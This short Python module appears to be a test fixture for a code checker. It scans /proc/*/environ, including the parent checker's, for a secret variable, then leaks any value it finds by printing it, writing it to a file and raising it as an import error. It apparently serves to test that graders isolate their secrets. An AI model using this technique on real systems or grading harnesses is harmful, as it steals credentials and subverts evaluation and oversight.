"""Looks for CHECK_TEST_SECRET in its environment and in every process's it can read (its parent's: the checker),
and raises it as its import error (so the check's one line would show it), else grades as honest."""

import os
from pathlib import Path

found = [os.environ["CHECK_TEST_SECRET"]] if "CHECK_TEST_SECRET" in os.environ else []
for environ in Path("/proc").glob("[0-9]*/environ"):
    try:
        found += [v.decode() for v in environ.read_bytes().split(b"\0") if v.startswith(b"CHECK_TEST_SECRET=")]
    except OSError:
        pass
if found:
    print("the secret:", found)
    Path(os.environ.get("HOME", "."), "secret.txt").write_text(str(found))
    raise RuntimeError(f"the secret: {found}")

from honest_engine import Value  # noqa: E402,F401
